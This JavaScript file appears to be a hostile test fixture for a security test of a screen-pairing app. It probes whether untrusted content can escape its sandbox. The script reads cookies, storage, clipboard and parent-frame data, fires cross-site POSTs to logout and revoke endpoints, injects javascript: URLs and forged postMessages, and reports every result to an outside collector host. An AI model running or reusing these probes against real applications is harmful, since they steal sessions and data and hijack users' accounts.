// What a work order might try. Reports each attempt to SINK: "did ..." where something came of it, "no ..." where not.
const PATIENCE_MS = 3000;
const say = (name, value) =>
  fetch(`${SINK}/say?${new URLSearchParams({ name, value: value.slice(0, 300) })}`, { mode: "no-cors" });

async function attempt(name, action) {
  const late = new Promise((_, no) => setTimeout(() => no(new DOMException("", "Nothing")), PATIENCE_MS));
  try {
    await say(name, `did ${JSON.stringify((await Promise.race([action(), late])) ?? null)}`);
  } catch (error) {
    await say(name, `no ${error.name}`);
  }
}

const failing = (event) => new Promise((_, no) => event((why) => no(new DOMException("", why))));
const text = async (path, options) => {
  const answer = await fetch(BASE + path, { credentials: "include", ...options });
  if (!answer.ok) throw new DOMException("", `HTTP${answer.status}`);
  return answer.text();
};

function socket() {
  return new Promise((ok, no) => {
    const wire = new WebSocket(`${BASE.replace("http", "ws")}/ws`, "vooster.v1");
    wire.onopen = () => wire.send(JSON.stringify({ type: "hello", client: { name: "x", version: "1" } }));
    wire.onmessage = (event) => (JSON.parse(event.data).type === "welcome" ? ok(event.data) : no(new DOMException("", "Refused")));
    wire.onerror = wire.onclose = () => no(new DOMException("", "Closed"));
  });
}

function stored() {
  return new Promise((ok, no) => {
    const asked = indexedDB.open("hostile");
    asked.onsuccess = () => ok("opened");
    asked.onerror = () => no(asked.error);
  });
}

function submitted() {
  const form = document.createElementNS("http://www.w3.org/1999/xhtml", "form");
  form.method = "post";
  form.action = `${BASE}/api/trigger`;
  form.target = "_blank";
  document.documentElement.append(form);
  form.submit();
}

function downloaded() {
  const link = document.createElementNS("http://www.w3.org/1999/xhtml", "a");
  link.href = URL.createObjectURL(new Blob(["MZ"]));
  link.download = "order.exe";
  document.documentElement.append(link);
  link.click();
}

const framed = parent !== window;

(async () => {
  await say("origin", `is ${self.origin}`);
  await attempt("localStorage", () => localStorage.getItem("vooster.pairing"));
  await attempt("sessionStorage", () => sessionStorage.length);
  await attempt("indexedDB", stored);
  await attempt("caches", () => caches.keys());
  await attempt("cookie", () => document.cookie);
  await attempt("cookie written", () => {
    document.cookie = "vooster_x=1; path=/";
  });
  if (framed) {
    await attempt("parent", () => parent.document.title);
    await attempt("top", () => top.document.title);
    await attempt("parent's storage", () => parent.localStorage.length);
    await attempt("parent's address", () => parent.location.href);
    await attempt("own frame", () => frameElement.tagName);
  }
  if (opener) await attempt("opener", () => opener.document.title);
  await attempt("who am I", () => text("/api/me"));
  await attempt("screens", () => text("/api/screens"));
  await attempt("csrf", () => text("/api/csrf"));
  await attempt("events", () => text("/api/events/subscribe"));
  await attempt("logout", () => text("/api/auth/logout", { method: "POST" }));
  await attempt("trigger", () => text("/api/trigger", { method: "POST", body: "{}" }));
  // What can't be read may have been done all the same; the test looks at the appliance for that.
  for (const path of ["/api/auth/logout", "/api/screens/S-1/clear", "/api/screens/S-1/revoke"])
    await fetch(BASE + path, { method: "POST", mode: "no-cors", credentials: "include", body: "{}" }).catch(() => {});
  await attempt("websocket", socket);
  await attempt("socket.io", () => text("/socket.io/?EIO=4&transport=polling"));
  await attempt("service worker", () => navigator.serviceWorker.register(`${BASE}/assets/x.js`));
  await attempt("clipboard", () => navigator.clipboard.readText());
  await attempt("full screen", () => document.documentElement.requestFullscreen());
  await attempt("window", () => {
    if (!open(`${BASE}/screens`)) throw new DOMException("", "Nothing");
  });
  submitted();
  downloaded();
  alert("hostile");
  confirm("hostile");
  prompt("hostile");
  print();
  for (const target of new Set([parent, top])) {
    if (target === window) continue;
    for (const type of ["navigate", "clear", "welcome", "pairing", "vooster:pairing", "vooster.pairing"])
      target.postMessage({ type, url: `${SINK}/message`, screenId: "S-9", pairing: {}, data: {} }, "*");
    for (const address of [`${SINK}/top`, `javascript:fetch("${SINK}/script")`]) {
      try {
        target.location = address;
      } catch {}
      try {
        target.location.replace(address);
      } catch {}
    }
  }
  await say("done", "is done");
  if (framed) {
    history.back();
    location = `javascript:fetch("${SINK}/say?name=own+script&value=is+"+self.origin)`;
    for (const address of [`${BASE}/screens`, `${SINK}/frame`]) {
      await new Promise((next) => setTimeout(next, 200));
      location = address;
    }
  }
})();
